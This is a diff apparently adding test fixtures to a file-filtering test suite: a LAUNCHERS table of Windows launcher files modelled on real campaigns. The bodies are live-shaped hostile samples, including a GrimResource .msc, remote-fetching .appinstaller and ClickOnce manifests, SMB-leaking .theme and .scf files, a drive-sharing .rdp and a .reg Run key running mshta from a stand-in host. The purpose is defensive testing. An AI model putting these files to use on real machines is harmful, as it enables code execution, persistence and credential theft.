@@ -98,6 +98,37 @@ SHELL_LINKS = {
 }
 
 
+# Launchers: files Windows opens with a program that runs them, shaped like the campaigns' files.
+# (name, content, rejected): rejected False for the kinds that are quarantined.
+LAUNCHERS = {
+    # GrimResource (2024): a console whose string table runs script through apds.dll.
+    "bao-cao-tuan.msc": (
+        b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI">'
+        b"<StringTables><StringTable><Strings><String ID=\"39\" Refs=\"1\">res://apds.dll/"
+        b"redirect.html?target=javascript:eval(external.Document.ScopeNamespace.GetRoot()."
+        b"Name)</String></Strings></StringTable></StringTables></MMC_ConsoleFile>\r\n", True),
+    "cap-nhat.appinstaller": (
+        b'<?xml version="1.0" encoding="utf-8"?>\r\n<AppInstaller Uri="https://203.0.113.5/'
+        b'a.appinstaller" Version="1.0.0.0" xmlns="http://schemas.microsoft.com/appx/'
+        b'appinstaller/2018"><MainBundle Name="VanBan" Publisher="CN=UBND" Version="1.0.0.0" '
+        b'Uri="https://203.0.113.5/a.msixbundle"/></AppInstaller>\r\n', True),
+    "phan-mem-ky-so.application": (
+        b'<?xml version="1.0" encoding="utf-8"?>\r\n<asmv1:assembly manifestVersion="1.0" '
+        b'xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment install="true">'
+        b'<deploymentProvider codebase="https://203.0.113.5/a.application"/></deployment>'
+        b"</asmv1:assembly>\r\n", True),
+    "hinh-nen.theme": (b"[Theme]\r\nDisplayName=UBND\r\n[VisualStyles]\r\n"
+                       b"Path=\\\\203.0.113.5\\share\\Aero.msstyles\r\n", True),
+    "thu-muc.scf": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.5\\share\\i.ico\r\n", True),
+    # The signed .rdp files of October 2024: drives and clipboard shared with the server.
+    "ket-noi-bo-ngoai-giao.rdp": (b"full address:s:203.0.113.5\r\ndrivestoredirect:s:*\r\n"
+                                  b"redirectclipboard:i:1\r\n", False),
+    "cai-dat-may-in.reg": (b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\"
+                           b"Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"
+                           b'"a"="mshta https://203.0.113.5/a"\r\n', False),
+}
+
+
 # SVG --------------------------------------------------------------------------------------------
 _SVG_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
              b'xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">\n')
